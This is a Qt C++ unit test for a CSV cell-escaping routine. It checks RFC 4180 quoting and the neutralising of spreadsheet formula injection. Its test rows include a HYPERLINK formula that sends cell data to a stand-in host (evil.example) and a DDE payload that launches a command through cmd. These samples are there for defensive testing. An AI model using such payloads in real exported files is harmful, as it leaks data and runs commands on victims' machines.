// One CSV cell for every CSV Sandpit writes (summary.csv and the Grade dialog's Export CSV):
// quoted as RFC 4180 says, and a cell a spreadsheet would run as a formula kept as text.

#include "grading/csvtext.h"
#include "support/csvrecords.h"

#include <QTest>

using namespace Sandpit::Core;

class TestCsvText : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void formulaStartsBecomeText_data()
    {
        QTest::addColumn<QString>("text");
        QTest::newRow("equals") << QStringLiteral("=HYPERLINK(\"https://evil.example/?\"&A2,\"marks\")");
        QTest::newRow("plus") << QStringLiteral("+1+cmd|' /C calc'!A0");
        QTest::newRow("minus") << QStringLiteral("-2+3");
        QTest::newRow("at") << QStringLiteral("@SUM(A1:A9)");
        QTest::newRow("tab") << QStringLiteral("\t=1+1");
        QTest::newRow("carriage return") << QStringLiteral("\r=1+1");
    }

    void formulaStartsBecomeText()
    {
        QFETCH(QString, text);
        const QList<QStringList> read = SandpitTest::csvRecords(csvRow({text, QStringLiteral("next")}));
        QCOMPARE(read.size(), 1);
        QCOMPARE(read.first(), (QStringList{u'\'' + text, QStringLiteral("next")}));
    }

    void plainCellsAreLeftAlone()
    {
        QCOMPARE(csvCell(QStringLiteral("ada")), QStringLiteral("ada"));
        QCOMPARE(csvCell(QStringLiteral("4")), QStringLiteral("4"));
        QCOMPARE(csvCell(QStringLiteral("tcp://127.0.0.1:23760")), QStringLiteral("tcp://127.0.0.1:23760"));
        QCOMPARE(csvCell(QStringLiteral("a=b")), QStringLiteral("a=b")); // only a leading = is a formula
        QCOMPARE(csvCell(QString()), QString());
    }

    void separatorsQuotesAndLineBreaksAreQuoted()
    {
        QCOMPARE(csvCell(QStringLiteral("two, three")), QStringLiteral("\"two, three\""));
        QCOMPARE(csvCell(QStringLiteral("say \"hi\"")), QStringLiteral("\"say \"\"hi\"\"\""));
        QCOMPARE(csvCell(QStringLiteral("line\nbreak")), QStringLiteral("\"line\nbreak\""));
        QCOMPARE(csvCell(QStringLiteral("=1,2")), QStringLiteral("\"'=1,2\""));
    }

    void aRowEndsWithCrLf()
    {
        QCOMPARE(csvRow({QStringLiteral("a"), QString(), QStringLiteral("b")}), QStringLiteral("a,,b\r\n"));
    }
};

QTEST_GUILESS_MAIN(TestCsvText)
#include "tst_csvtext.moc"
